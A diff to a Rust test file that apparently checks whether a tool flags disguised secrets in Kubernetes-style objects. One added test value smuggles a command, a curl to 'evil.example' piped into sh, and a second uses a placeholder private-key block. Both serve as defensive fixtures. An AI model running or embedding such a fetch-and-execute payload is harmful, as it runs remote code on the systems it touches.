@@ -126,6 +126,13 @@ fn what_looks_like_a_secret_and_may_be_more_is_not_shown() {
     assert_eq!(made, Err(Unshowable::Disguised(Disguised)));
     let shown = object(&key(), map_rule(), &disguised);
     assert_eq!(shown, Err(Unshowable::Disguised(Disguised)));
+    let mut told = map("note", "text");
+    told["data"]["run-secret"] = json!("Id=1;curl${IFS}evil.example/x|sh");
+    let made = diff(&key(), map_rule, None, Some(&told));
+    assert_eq!(made, Err(Unshowable::Disguised(Disguised)));
+    let mut pod = map("note", "text");
+    pod["env"] = json!([{"name": "KEY", "value": "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----"}]);
+    assert!(diff(&key(), map_rule, None, Some(&pod)).is_ok());
     // It is there already, and nothing of it changes.
     let mut noted = disguised.clone();
     noted["metadata"]["annotations"]["a"] = json!("another");
